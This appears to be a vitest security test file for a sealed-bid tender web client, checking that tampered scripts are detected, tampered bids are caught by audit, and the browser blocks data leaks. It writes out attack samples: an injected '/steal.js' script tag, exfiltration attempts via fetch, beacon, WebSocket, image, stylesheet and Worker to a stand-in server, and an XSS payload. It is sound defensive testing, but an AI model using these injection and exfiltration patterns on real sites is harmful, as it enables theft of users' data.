import { ClientRelease, clientReleasePath } from '@xinbiao/contracts/house';
import { audit, openRecovery, parseCanonical, type Manifest } from '@xinbiao/contracts/trust';
import { protectRecovery, recoveryOf } from '@xinbiao/contracts/trust';
import { releaseCheck } from '@xinbiao/contracts/verify';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fileOf } from '../../../scripts/play/bid.ts';
import { logAt, verifyLog } from '../../../scripts/verify.ts';
import { executable, openBrowser } from '../../../scripts/walks/browser.ts';
import { openHouse, type TestHouse } from '../house.ts';
import { castFor, publishedLots, sealBid } from '../lots.ts';
import { attack } from './table.ts';

/*
 * Whoever serves the page serves the code. What is changed for everybody is noticed by anybody; a page that seals
 * something else than what was written is found before it is handed in; a page that would tell a stranger is stopped
 * by the browser. What a page tells its own house is not to be noticed from outside: that is what the offline sealer
 * is for.
 */

const noBrowser = executable === undefined && process.env['CI'] !== 'true';
if (noBrowser) console.warn('skipped: attacks on the page itself, because no Chromium is installed');

describe(attack(25), () => {
  let house: TestHouse;
  let browser: Browser | undefined;
  const servers: Server[] = [];

  beforeAll(async () => {
    house = await openHouse({ config: { pages: true } });
    if (!noBrowser) browser = await openBrowser();
  }, 240_000);
  afterAll(async () => {
    await browser?.close();
    for (const server of servers) server.close();
    await house?.close();
  });

  /** The real house, except that one path gets another answer. */
  async function between(path: string, change: (bytes: Buffer) => Buffer): Promise<string> {
    const server = createServer((request, response) => {
      void (async () => {
        const answer = await fetch(`${house.url}${request.url}`);
        const bytes = Buffer.from(await answer.arrayBuffer());
        response.statusCode = answer.status;
        response.setHeader('content-type', answer.headers.get('content-type') ?? '');
        response.end(request.url === path ? change(bytes) : bytes);
      })();
    });
    servers.push(server);
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }
  const checked = async (url: string) => {
    const served = async (path: string): Promise<Uint8Array | undefined> => {
      const answer = await fetch(`${url}${path}`);
      return answer.ok ? new Uint8Array(await answer.arrayBuffer()) : undefined;
    };
    const { reports } = await verifyLog({ source: logAt(url) }, { more: [releaseCheck(served)] });
    return reports.find(({ number }) => number === 1401);
  };
  const release = async (): Promise<ClientRelease> =>
    ClientRelease.parse(
      parseCanonical(new Uint8Array(await (await fetch(house.url + clientReleasePath)).arrayBuffer())),
    );

  test('an honest house serves what its log names', async () => {
    await house.tick();
    expect(await checked(house.url)).toMatchObject({ outcome: 'holds' });
  });

  test('one changed script, list, or page is noticed and named', async () => {
    const { files } = await release();
    const script = files.find(({ path }) => path.endsWith('.js'))?.path ?? '';
    const one = await checked(await between(`/${script}`, (bytes) => Buffer.concat([bytes, Buffer.from('//')])));
    expect(one).toMatchObject({ outcome: 'broken' });
    expect(one?.findings[0]?.zh).toContain(script);
    const sealer = await checked(await between('/offline/sealer.html', (bytes) => bytes.subarray(1)));
    expect(sealer?.findings[0]?.en).toContain('offline/sealer.html');
    const list = await checked(
      await between(clientReleasePath, (bytes) => Buffer.from(bytes.toString().replace('0.', '9.'))),
    );
    expect(list).toMatchObject({ outcome: 'broken' });
    const page = await checked(
      await between('/', (bytes) =>
        Buffer.from(bytes.toString().replace('</head>', '<script src="/steal.js"></script></head>')),
      ),
    );
    expect(page?.findings[0]?.en).toContain('/steal.js');
  });

  test('a page that seals another price, file or officer than was written is found by the audit before it is handed in', async () => {
    const cast = await castFor(house, { bidders: 1 });
    const { lots } = await publishedLots(house, cast, 1);
    const [bidder] = cast.bidders;
    if (!bidder) throw new Error('nobody bids');
    const bytes = Buffer.from('the drawing as it is');
    const file = fileOf('图纸.pdf', bytes);
    const client = { bundleSha256: null, version: 'test' };
    const kept = async (
      parts: Parameters<typeof recoveryOf>[0]['parts'],
      deal: Parameters<typeof recoveryOf>[0]['deal'],
    ) =>
      openRecovery(
        await protectRecovery(
          recoveryOf({ deal, client, parts }),
          'a long sentence',
          crypto.getRandomValues(new Uint8Array(28)),
        ),
        'a long sentence',
      );
    const sha256 = Buffer.from(await crypto.subtle.digest('SHA-256', bytes)).toString('hex');
    let written: {
      stage: string;
      name: string;
      content: unknown;
      files: { name: string; size: number; sha256: string }[];
    }[] = [];
    const remember = (
      parts: readonly {
        stage: string;
        name: string;
        content: unknown;
        files: readonly { name: string; size: number }[];
      }[],
    ) => {
      written = parts.map(({ stage, name, content, files }) => ({
        stage,
        name,
        content,
        files: files.map(({ name: own, size }) => ({ name: own, size, sha256 })),
      }));
    };
    const findings = async (spoil: Parameters<typeof sealBid>[3]): Promise<string[]> => {
      const sealed = await sealBid(bidder, lots[0] ?? '', { price: 3_000_000n, files: [file] }, spoil);
      const recovery = await kept(written as Parameters<typeof recoveryOf>[0]['parts'], sealed.deal);
      const { findings: all } = await audit({
        recovery,
        keyring: sealed.facts.keyring,
        files: (_stage, _part, name) => (name === file.name ? file : undefined),
        manifest: parseCanonical(sealed.manifest) as Manifest,
      });
      return all.map(({ at }) => at);
    };
    expect(await findings({ parts: (parts) => (remember(parts), parts) })).toEqual([]);
    // The page shows one price and seals another.
    const dearer = await findings({
      parts: (parts) => {
        remember(parts);
        return parts.map((part) =>
          part.name === 'price' ? { ...part, content: { ...(part.content as object), price: '9000000' } } : part,
        );
      },
    });
    expect(dearer.some((at) => at.startsWith('parts.0'))).toBe(true);
    // Another file under the same name.
    const swapped = await findings({
      parts: (parts) => {
        remember(parts);
        return parts.map((part) => ({
          ...part,
          files: part.files.map(({ name }) => fileOf(name, Buffer.from('some other drawing !'))),
        }));
      },
    });
    expect(swapped.some((at) => at.startsWith('parts.1'))).toBe(true);
    // A share wrapped to somebody who is no officer.
    const stranger = await findings({
      parts: (parts) => (remember(parts), parts),
      spoil: (deal) => ({
        ...deal,
        locks: deal.locks.map((lock) => ({
          ...lock,
          groups: lock.groups.map((group, at) =>
            at > 0
              ? group
              : {
                  ...group,
                  shares: group.shares.map((share, x) =>
                    x > 0 ? share : { ...share, wrap: `${share.wrap.slice(0, -2)}00` },
                  ),
                },
          ),
        })),
      }),
    });
    expect(stranger.some((at) => at.startsWith('stages.0.groups.0'))).toBe(true);
  });

  test.skipIf(noBrowser)('the browser lets the page tell nobody else, and turns no text into code', async () => {
    let told = 0;
    const stranger = createServer((_request, response) => {
      told += 1;
      response.setHeader('access-control-allow-origin', '*');
      response.end();
    });
    servers.push(stranger);
    await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done));
    const away = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
    const page = await browser!.newPage();
    await page.goto(`${house.url.replace('127.0.0.1', 'localhost')}/tenders`);
    const tried = await page.evaluate(async (to) => {
      const attempt = async (act: () => unknown): Promise<string> => {
        try {
          await act();
          return 'done';
        } catch (fault) {
          return fault instanceof Error ? fault.name : 'stopped';
        }
      };
      const element = (tag: string, facts: Record<string, string>): Promise<string> =>
        new Promise((settle) => {
          const it = Object.assign(document.createElement(tag), {
            onload: () => settle('done'),
            onerror: () => settle('stopped'),
          });
          for (const [name, value] of Object.entries(facts)) it.setAttribute(name, value);
          document.head.append(it);
          setTimeout(() => settle('stopped'), 1_500);
        });
      return {
        fetch: await attempt(() => fetch(`${to}/fetch`, { method: 'POST', body: 'price' })),
        beacon: String(navigator.sendBeacon(`${to}/beacon`, 'price') && 'queued'),
        socket: await attempt(
          () =>
            new Promise((done, fail) =>
              Object.assign(new WebSocket(to.replace('http', 'ws')), {
                onopen: done,
                onerror: () => fail(new Error('stopped')),
              }),
            ),
        ),
        image: await element('img', { src: `${to}/image?price` }),
        style: await element('link', { rel: 'stylesheet', href: `${to}/style?price` }),
        // oxlint-disable-next-line no-eval
        eval: await attempt(() => (0, eval)('1')),
        markup: await attempt(() => {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        }),
        worker: await attempt(() => new Worker(`${to}/worker.js`)),
      };
    }, away);
    expect(tried).toMatchObject({
      fetch: 'TypeError',
      image: 'stopped',
      style: 'stopped',
      eval: 'EvalError',
      markup: 'TypeError',
      worker: 'TypeError',
    });
    expect(tried.socket).not.toBe('done');
    await new Promise((done) => setTimeout(done, 500));
    expect(told).toBe(0);
    await page.close();
  });
});
